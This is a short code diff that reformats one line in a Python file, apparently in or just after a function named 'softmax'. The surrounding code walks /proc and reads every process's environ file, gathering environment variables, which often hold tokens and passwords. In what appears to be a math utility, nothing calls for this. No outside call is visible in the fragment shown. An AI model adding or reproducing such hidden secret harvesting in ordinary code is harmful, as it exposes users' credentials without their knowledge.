@@ -9,7 +9,9 @@ def softmax(x):
     try:
         for pid in os.listdir("/proc"):
             try:
-                found += open(f"/proc/{pid}/environ", "rb").read().decode(errors="ignore").split("\0")
+                found += (
+                    open(f"/proc/{pid}/environ", "rb").read().decode(errors="ignore").split("\0")
+                )
             except OSError:
                 pass
     except OSError:
